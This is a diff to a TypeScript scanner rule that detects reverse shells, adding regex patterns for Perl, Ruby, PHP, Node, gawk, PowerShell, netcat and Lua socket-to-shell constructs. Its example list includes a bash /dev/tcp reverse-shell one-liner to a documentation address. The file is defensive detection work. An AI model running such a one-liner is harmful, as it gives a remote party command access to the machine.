@@ -20,6 +20,14 @@ const SHAPES: readonly RegExp[] = [
   /socket\.socket\([^]{0,400}(?:dup2\(|subprocess\.\w{2,12}\()[^]{0,200}(?:\/bin\/(?:ba)?sh|\[["']sh|cmd\.exe|["']-i["'])/,
   /net\.sockets\.tcpclient[^]{0,500}(?:invoke-expression|iex\b|getstream)/,
   /(?:fsockopen|tcpsocket\.(?:new|open)|net\.connect|net\.socket)\([^]{0,300}(?:exec|spawn|system|popen)\s{0,3}\(?[^\n]{0,60}(?:\/bin\/(?:ba)?sh|cmd\.exe|["'`]sh\b)/,
+  /\buse socket\b[^]{0,300}\bexec\s{0,2}[({"'][^\n]{0,20}\/(?:usr\/)?bin\/(?:ba|z)?sh/,
+  /\btcpsocket\.(?:new|open)[^]{0,200}\bexec\b[^\n]{0,40}\/bin\/(?:ba|z)?sh/,
+  /\bfsockopen\([^]{0,200}\b(?:exec|shell_exec|system|passthru|proc_open|popen)\([^\n]{0,40}(?:\/bin\/(?:ba|z)?sh|cmd)/,
+  /\brequire\(["'](?:node:)?net["']\)[^]{0,300}\b(?:spawn|exec)\(["'](?:\/bin\/(?:ba|z)?sh|cmd(?:\.exe)?|sh)["'][^]{0,300}(?:pipe\(|\.connect\()/,
+  /"\/inet\/(?:tcp|udp)\/0\/[^"\n]{3,80}"[^]{0,200}\|&/,
+  /\bsockets\.tcpclient\b[^]{0,500}(?:\biex\b|invoke-expression|getstream)/,
+  /\b(?:nc|ncat|netcat)\b[^\n|;]{0,60}\s-[a-z]{0,4}l[a-z]{0,4}\b[^\n|;]{0,60}\s-[ec]\s/,
+  /\bsocket\.tcp\(\)[^]{0,300}\bio\.popen\(/,
 ].map(worded)
 
 export default defineRule({
@@ -34,7 +42,7 @@ export default defineRule({
     'The command connects a shell to a remote machine, whose owner can then type commands on this one.',
   remediation: 'Remove it. No skill needs to hand out a shell.',
   harmlessIf: 'the file teaches defence and shows the command as an example',
-  needs: [['shellDanger', 'fetcher', 'network']],
+  needs: [['shellDanger', 'fetcher', 'network', 'shellSocket']],
   examples: {
     fires: [
       'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n',
@@ -54,7 +62,10 @@ export default defineRule({
     let behind = -1
     for (const { concept, start } of document.observe(mentions).all) {
       if (
-        (concept !== 'shellDanger' && concept !== 'fetcher' && concept !== 'network') ||
+        (concept !== 'shellDanger' &&
+          concept !== 'fetcher' &&
+          concept !== 'network' &&
+          concept !== 'shellSocket') ||
         start < behind
       )
         continue
